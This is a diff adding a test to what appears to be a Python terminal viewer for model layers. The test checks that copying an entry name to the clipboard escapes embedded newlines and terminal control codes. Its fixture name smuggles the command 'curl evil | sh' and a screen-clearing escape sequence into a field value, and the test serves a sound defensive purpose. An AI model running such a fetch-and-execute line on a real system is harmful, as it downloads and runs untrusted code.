@@ -260,3 +260,12 @@ async def test_tied_and_entries() -> None:
         assert stage.app.is_running
         assert "\\x1b" in stage.text
         assert np.isfinite(weight).all()
+
+
+async def test_what_is_copied_cannot_run_where_it_is_pasted() -> None:
+    name = "layer\ncurl evil | sh\n\x1b[2J"
+    async with on_stage(MemorySource({name: ramp(4)})) as stage:
+        for key in ("y", "Y"):
+            await stage.press(key)
+            assert stage.app.clipboard.startswith("layer\\x0acurl evil | sh"), key
+            assert stage.app.clipboard.isprintable(), key
